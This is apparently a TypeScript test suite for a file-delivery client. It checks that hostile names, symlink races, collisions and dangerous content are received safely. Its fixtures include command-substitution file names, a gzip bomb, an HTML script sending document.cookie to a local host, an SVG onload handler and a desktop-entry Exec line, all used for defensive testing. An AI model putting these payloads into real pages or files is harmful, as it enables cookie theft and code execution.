/** T13 to T16 and T52: trees that are made to escape, to collide, to overwrite or to be run. */
import { execFileSync, spawn, spawnSync } from "node:child_process"
import { once } from "node:events"
import fs, {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs"
import { syncBuiltinESMExports } from "node:module"
import path from "node:path"
import { gzipSync } from "node:zlib"
import { describe, expect, onTestFinished, test } from "vitest"
import { DestinationExists, type ProgressEvent, Untrustworthy } from "../../client/index.js"
import { placeAll } from "../../client/placing.js"
import { showText } from "../../client/program/display.js"
import { utf8 } from "../../protocol/index.js"
import { patternBytes, readTree, scratchFolder, treeOf } from "../client/folders.js"
import { makeDelivery } from "../client/made-delivery.js"
import { makeSetting } from "../client/setting.js"

const one = patternBytes(20, 1)
const two = patternBytes(30, 2)

async function made(files: Record<string, Uint8Array>) {
  const setting = await makeSetting()
  const { relay, identity } = setting
  const { id } = await makeDelivery({ relay, recipient: identity.bundle, files })
  const inbox = await setting.open()
  return { setting, id, inbox, into: path.join(setting.folder, "into") }
}

/** Every name that may cause trouble somewhere and that a file system of Linux takes. */
function oddNames(): string[] {
  const names = ["a".repeat(255), "é".repeat(127), "€".repeat(85), "𝄞".repeat(63)]
  for (let code = 1; code < 0x80; code++) {
    const character = String.fromCharCode(code)
    if (character === "/") continue
    if (character !== ".") names.push(character)
    names.push(`x${character}`, `${character}x${character}`)
  }
  // The first and the last character of each length in UTF-8, and what else bytes can be within it.
  for (const code of [0x80, 0xff, 0x7ff, 0x800, 0xd7ff, 0xe000, 0xffff, 0x10000, 0x10ffff]) {
    names.push(String.fromCodePoint(code))
  }
  for (let low = 0; low < 64; low++) names.push(`é${String.fromCodePoint(0x1c0 + low)}`)
  for (let lead = 2; lead < 31; lead++) names.push(String.fromCodePoint(lead * 64 + 5))
  return names.concat(
    ["-rf", "--", "--help", "-", "...", "..x", ".hidden", "~", "a b", " a", "a ", "a\n", "\r\n"],
    ["con", "NUL.txt", "com1", "LPT¹", "a:b", "C:\\x", "..\\..\\x", "%3A", "a%253A", "x%~y"],
    ["\u202egnp.exe", "\u2066x", "\ufeff", "\u200b", "\u00e9", "e\u0301", "ﬁ", "fi", "Å", "Å"],
    ["ß", "ẞ", "SS", "ss", "İ", "i", "I", "ı", "\u001b[31mred", "$(id)", "`id`", "'", '"'],
  )
}

function makeOddTree(folder: string): void {
  const names = [...new Set(oddNames())]
  for (const [index, name] of names.entries()) {
    mkdirSync(path.join(folder, "folders"), { recursive: true })
    writeFileSync(path.join(folder, name), `content of ${index}`)
    mkdirSync(path.join(folder, "folders", name))
    if (index % 2 === 0) writeFileSync(path.join(folder, "folders", name, name), utf8(name))
  }
  mkdirSync(path.join(folder, ...Array.from({ length: 60 }, () => "deep")), { recursive: true })
}

function sameTrees(left: string, right: string): string {
  const { stdout, status } = spawnSync("diff", ["-r", left, right], {
    env: { ...process.env, LC_ALL: "C" },
    encoding: "latin1",
  })
  return status === 0 ? "the same" : stdout.slice(0, 2000)
}

describe("T13 T14 a tree with every odd name that the file system takes", () => {
  test("is received byte for byte as it was sent", async () => {
    const setting = await makeSetting()
    const tree = path.join(setting.folder, "tree")
    makeOddTree(tree)
    const sent = await setting.send({ sources: [{ kind: "path", path: tree }] })
    const into = path.join(setting.folder, "into")
    const result = await (await setting.open()).receive(sent.id, { into })
    expect(result).toMatchObject({ failed: [], renamed: [], paths: [path.join(into, "tree")] })
    expect(sameTrees(tree, path.join(into, "tree"))).toBe("the same")
  })

  test("at the top of a delivery is received so, too, also beside what is there", async () => {
    const names = oddNames().filter((name) => name.length < 200)
    const files = Object.fromEntries(names.map((name, index) => [name, patternBytes(index, 1)]))
    const { id, inbox, into } = await made(files)
    mkdirSync(into)
    writeFileSync(path.join(into, "mine"), one)
    expect(await inbox.receive(id, { into })).toMatchObject({ failed: [], renamed: [] })
    expect(readTree(into)).toEqual(treeOf({ ...files, mine: one }))
  })
})

describe("T15 a link in the place of", () => {
  const files = { "photos/a": one, "photos/deep/b": two, letter: one }
  for (const onExisting of ["fail", "overwrite", "rename"] as const) {
    test(`a folder of the delivery is not written through (${onExisting})`, async () => {
      const { id, inbox, into, setting } = await made(files)
      const outside = path.join(setting.folder, "outside")
      mkdirSync(path.join(outside, "deep"), { recursive: true })
      mkdirSync(into)
      symlinkSync(outside, path.join(into, "photos"))
      const receiving = inbox.receive(id, { into, onExisting })
      if (onExisting === "rename") await receiving
      else await expect(receiving).rejects.toThrow(DestinationExists)
      expect(readdirSync(path.join(outside, "deep"))).toEqual([])
      expect(readdirSync(outside)).toEqual(["deep"])
      expect(existsSync(path.join(into, "photos (2)/a"))).toBe(onExisting === "rename")
    })
  }

  test("the destination is followed as it stood when it was named, and not when it is changed", async () => {
    const { id, inbox, setting } = await made(files)
    const [first, second] = ["first", "second"].map((name) => path.join(setting.folder, name))
    const into = path.join(setting.folder, "link")
    mkdirSync(first ?? "")
    mkdirSync(second ?? "")
    symlinkSync(first ?? "", into)
    const onProgress = (event: ProgressEvent) => {
      if (event.kind !== "phase" || event.phase !== "syncing") return
      rmSync(into)
      symlinkSync(second ?? "", into)
    }
    await inbox.receive(id, { into, onProgress })
    expect(readTree(first ?? "")).toMatchObject(treeOf(files))
    expect(readdirSync(second ?? "")).toEqual([])
  })

  test("a folder of the destination, now and then while files are moved into it, leads nowhere", async () => {
    const base = scratchFolder()
    const [tree, into, outside] = ["tree", "into", "outside"].map((name) => path.join(base, name))
    if (tree === undefined || into === undefined || outside === undefined) throw new Error("three")
    for (const folder of [tree, path.join(into, "photos/new"), path.join(outside, "new")]) {
      mkdirSync(folder, { recursive: true })
    }
    const swap = `
      const fs = require("node:fs"), [into, outside] = process.argv.slice(1), at = into + "/photos"
      fs.symlinkSync(outside, into + "/link")
      process.stdout.write("ready")
      for (;;) {
        fs.renameSync(at, into + "/aside"); fs.renameSync(into + "/link", at)
        fs.renameSync(at, into + "/link"); fs.renameSync(into + "/aside", at)
      }`
    const swapping = spawn(process.execPath, ["-e", swap, into, outside], { stdio: "pipe" })
    onTestFinished(() => void swapping.kill("SIGKILL"))
    await once(swapping.stdout, "data")
    const ends = new Set<string>()
    for (let round = 0; round < 200; round++) {
      const moves = Array.from({ length: 5 }, (_, index) => {
        const from = path.join(tree, `${index}`)
        writeFileSync(from, one)
        return { from, to: path.join(into, "photos/new", `${index}`), replace: true }
      })
      const placing = placeAll({ into, moves, names: new Map(), emptied: [], isBegun: false })
      ends.add(
        await placing.then(
          () => "placed",
          (error: Error) => error.name,
        ),
      )
    }
    expect(swapping.exitCode).toBeNull()
    expect(ends).toContain("placed")
    expect(ends).toContain("DestinationExists")
    expect(readdirSync(path.join(outside, "new"))).toEqual([])
  })

  test("the private folder ends the receiving", async () => {
    const { id, inbox, into, setting } = await made(files)
    const outside = path.join(setting.folder, "outside")
    mkdirSync(outside)
    mkdirSync(into)
    symlinkSync(outside, path.join(into, `.knothole-${id}`))
    await expect(inbox.receive(id, { into })).rejects.toThrow(DestinationExists)
    expect(readdirSync(outside)).toEqual([])
  })
})

describe("T16 what is there", () => {
  test("is not overwritten unasked, and nothing is fetched for it", async () => {
    const { id, inbox, into, setting } = await made({ letter: one, other: one })
    mkdirSync(into)
    writeFileSync(path.join(into, "letter"), two)
    await expect(inbox.receive(id, { into })).rejects.toThrow(DestinationExists)
    expect(readTree(into)).toEqual(treeOf({ letter: two }))
    expect(setting.relay.asked.some(({ path: asked }) => asked.endsWith("/body"))).toBe(false)
  })

  test("stays when it comes while the delivery is fetched", async () => {
    const { id, inbox, into } = await made({ letter: one, "photos/a": one })
    const onProgress = (event: ProgressEvent) => {
      if (event.kind !== "phase" || event.phase !== "syncing") return
      writeFileSync(path.join(into, "letter"), two)
      mkdirSync(path.join(into, "photos"))
    }
    await expect(inbox.receive(id, { into, onProgress })).rejects.toThrow(DestinationExists)
    expect(readTree(into)).toMatchObject({ ...treeOf({ letter: two }), photos: undefined })
    expect(readdirSync(path.join(into, "photos"))).toEqual([])
  })

  test("an executable flag counts for nothing unless it is asked for", async () => {
    const setting = await makeSetting()
    const file = path.join(setting.folder, "run.sh")
    writeFileSync(file, "#!/bin/sh\n")
    chmodSync(file, 0o755)
    const { id } = await setting.send({ sources: [{ kind: "path", path: file }] })
    const inbox = await setting.open()
    for (const executable of [false, true]) {
      const into = path.join(setting.folder, `into ${String(executable)}`)
      await inbox.receive(id, { into, keep: true, executable })
      expect((statSync(path.join(into, "run.sh")).mode & 0o100) !== 0).toBe(executable)
    }
  })

  test("a name that turns the line around is kept on the disk and shown escaped", async () => {
    const name = "invoice\u202efdp.exe"
    const { id, inbox, into } = await made({ [name]: one })
    await inbox.receive(id, { into })
    expect(readdirSync(into)).toEqual([name])
    expect(showText(name)).toBe("invoice\\u{202e}fdp.exe")
  })
})

/** So many empty files, each in a chain of 63 folders that no other one shares. */
async function chains(count: number) {
  const names = Array.from({ length: count }, (_, index) => `${index}${"/n".repeat(63)}`)
  const empty = new Uint8Array(0)
  const delivery = await made(Object.fromEntries(names.map((name) => [name, empty])))
  return { ...delivery, names }
}

function countFoldersMade(onFolder: (count: number) => void): () => number {
  const { mkdirSync: original } = fs
  let count = 0
  fs.mkdirSync = (...args: Parameters<typeof original>) => {
    onFolder(++count)
    return original(...args)
  }
  syncBuiltinESMExports()
  onTestFinished(() => {
    fs.mkdirSync = original
    syncBuiltinESMExports()
  })
  return () => count
}

describe("T17 folders that no entry lists", () => {
  test("are counted before anything is made, and too many are refused", async () => {
    const { id, inbox, into, names, setting } = await chains(4162)
    const receiving = inbox.receive(id, { into })
    await expect(receiving).rejects.toThrow(Untrustworthy)
    await expect(receiving).rejects.toThrow("262206 folders")
    expect(existsSync(into)).toBe(false)
    expect(setting.relay.asked.some(({ method }) => method === "DELETE")).toBe(false)
    const few = await inbox.receive(id, { into, entries: names.slice(0, 2) })
    expect(few).toMatchObject({ files: 2, failed: [] })
  })

  test("do not keep the receiving from being called off while they are made", async () => {
    const { id, inbox, into } = await chains(500)
    const stop = new AbortController()
    const made = countFoldersMade((count) => {
      // As a key that is pressed: it is seen when the program next looks.
      if (count === 100) setImmediate(() => stop.abort())
    })
    await expect(inbox.receive(id, { into, signal: stop.signal })).rejects.toThrow("aborted")
    expect(made()).toBeLessThan(2000)
  })

  test("do not keep it from being called off while they are synced, and it goes on later", async () => {
    // Few enough that they are not synced with their whole file system.
    const { id, inbox, into } = await chains(3)
    const stop = new AbortController()
    let synced = 0
    const { open } = fs.promises
    fs.promises.open = async (...args) => {
      if (typeof args[0] === "string" && args[0].endsWith("/n") && ++synced === 20) stop.abort()
      return open(...args)
    }
    syncBuiltinESMExports()
    onTestFinished(() => {
      fs.promises.open = open
      syncBuiltinESMExports()
    })
    await expect(inbox.receive(id, { into, signal: stop.signal })).rejects.toThrow("aborted")
    expect(synced).toBeLessThan(60)
    expect(await inbox.receive(id, { into })).toMatchObject({ resumed: true, files: 3 })
  })
})

describe("T52 what unpacks, renders or runs elsewhere", () => {
  test("is stored as the bytes it is", async () => {
    const zeros = gzipSync(new Uint8Array(20_000_000), { level: 9 })
    const files = {
      "bomb.gz": zeros,
      "bomb.zip": Buffer.concat([utf8("PK\u0003\u0004"), zeros]),
      "bomb.br": patternBytes(300, 9),
      "page.html": utf8("<script>fetch('http://127.0.0.1:1/'+document.cookie)</script>"),
      "image.svg": utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      "app.desktop": utf8("[Desktop Entry]\nExec=sh -c id\n"),
    }
    const { id, inbox, into } = await made(files)
    const { entries } = (await inbox.open(id)).manifest
    expect(entries.map((entry) => (entry.type === "file" ? entry.size : 0))).toEqual(
      Object.values(files).map(({ length }) => length),
    )
    await inbox.receive(id, { into })
    expect(readTree(into)).toEqual(treeOf(files))
    for (const name of readdirSync(into)) {
      expect(statSync(path.join(into, name)).mode & 0o111).toBe(0)
    }
  })
})

// A file system that folds capitals and refuses what Windows refuses, mounted from a file.

function mountFolding(): string | undefined {
  if (process.getuid?.() !== 0 || !existsSync("/dev/fuse")) return undefined
  if (spawnSync("sh", ["-c", "command -v mkntfs lowntfs-3g"]).status !== 0) return undefined
  const folder = scratchFolder()
  const image = path.join(folder, "image")
  const at = path.join(folder, "mounted")
  mkdirSync(at)
  execFileSync("truncate", ["-s", "32M", image])
  execFileSync("mkntfs", ["-F", "-q", image], { stdio: "ignore" })
  const options = ["-o", "ignore_case,windows_names"]
  if (spawnSync("lowntfs-3g", [image, at, ...options]).status !== 0) return undefined
  // Before the folder goes: what was registered last is done first.
  onTestFinished(() => void execFileSync("umount", [at]))
  return at
}

type Call = (...args: unknown[]) => unknown

/** The same rules laid over a folder, where nothing can be mounted: what a path means is changed on its way. */
function injectFolding(): string {
  const root = path.join(scratchFolder(), "folding")
  mkdirSync(root)
  // oxlint-disable-next-line no-control-regex -- these are what it refuses
  const refused = /[\u0000-\u001f<>:"|?*\\]|[. ](?:\/|$)|\/(?:con|nul)(?:[./]|$)/i
  const fold = (given: unknown): unknown => {
    if (typeof given !== "string") return given
    const base = /^\/proc\/self\/fd\/\d+/.exec(given)?.[0] ?? root
    const isOurs = base === root || readlinkSync(base).startsWith(root)
    if (!isOurs || !given.startsWith(`${base}/`)) return given
    const below = given.slice(base.length)
    if (refused.test(below)) throw Object.assign(new Error(below), { code: "EINVAL" })
    return base + below.toLowerCase()
  }
  const lay = (holder: object, names: readonly string[], isAsync: boolean) => {
    const calls = holder as Record<string, Call>
    for (const name of names) {
      const call = calls[name]
      if (call === undefined) throw new Error(name)
      const folding: Call = (...args) => call(...args.map(fold))
      calls[name] = isAsync ? async (...args) => folding(...args) : folding
      onTestFinished(() => {
        calls[name] = call
        syncBuiltinESMExports()
      })
    }
  }
  lay(fs, ["openSync", "mkdirSync", "lstatSync", "readdirSync", "rmSync"], false)
  const moving = ["rename", "link", "unlink", "rm", "rmdir", "mkdir"]
  lay(fs.promises, [...moving, "open", "lstat", "readdir", "chmod"], true)
  syncBuiltinESMExports()
  return root
}

const colliding = {
  letter: one,
  LETTER: two,
  "folder/a": one,
  "Folder/b": two,
  "folder/A": two,
  "x:y": one,
  "nul.txt": two,
  "x%3Ay": two,
  "sub./end ": one,
  "back\\slash": new Uint8Array(0),
}
const left = ["Folder/b", "LETTER", "folder/A"]
const stored = {
  letter: one,
  folder: undefined,
  "folder/a": one,
  "x%3ay": one,
  "%6eul.txt": two,
  "x%253ay": two,
  "sub%2e": undefined,
  "sub%2e/end%20": one,
  "back%5cslash": new Uint8Array(0),
}

async function receiveColliding(where: string): Promise<void> {
  const { id, inbox, setting } = await made(colliding)
  const into = path.join(where, "into")
  const result = await inbox.receive(id, { into })
  expect(result.failed.map((failure) => failure.path).sort()).toEqual(left)
  // Capitals are as the disk gives them back.
  const found = Object.entries(readTree(into)).map(([name, digest]) => [name.toLowerCase(), digest])
  expect(Object.fromEntries(found)).toEqual(treeOf(stored))
  expect(result.renamed).toContainEqual({ path: "x:y", stored: "x%3Ay" })
  expect(result.renamed).toContainEqual({ path: "sub.", stored: "sub%2E" })
  // What was left out can still be had elsewhere.
  expect(setting.relay.asked.some(({ method }) => method === "DELETE")).toBe(false)
  const elsewhere = path.join(setting.folder, "elsewhere")
  expect(await inbox.receive(id, { into: elsewhere })).toMatchObject({ failed: [], renamed: [] })
  expect(readTree(elsewhere)).toMatchObject(treeOf(colliding))
}

describe("T14 on a disk that folds capitals and refuses what Windows refuses", () => {
  test("the first of a name is received, the others are listed, the rest is renamed", async () => {
    const where = mountFolding()
    if (where === undefined) {
      console.warn("the folding file system is an injected one: no root, /dev/fuse or ntfs-3g")
    }
    await receiveColliding(where ?? injectFolding())
  })

  test("so also where the file system is an injected one", async () => {
    await receiveColliding(injectFolding())
  })

  test("a tree without collisions goes through clean, but for the names that are refused", async () => {
    const where = mountFolding() ?? injectFolding()
    const setting = await makeSetting()
    const tree = path.join(setting.folder, "tree")
    mkdirSync(path.join(tree, "sub"), { recursive: true })
    for (const name of ["plain", "\u00e9", "e\u0301", "-rf", "\u202eu", "é".repeat(127)]) {
      writeFileSync(path.join(tree, name), name)
      writeFileSync(path.join(tree, "sub", name), name)
    }
    const { id } = await setting.send({ sources: [{ kind: "path", path: tree }] })
    const into = path.join(where, "into")
    expect(await (await setting.open()).receive(id, { into })).toMatchObject({ failed: [] })
    expect(sameTrees(tree, path.join(into, "tree"))).toBe("the same")
  })
})
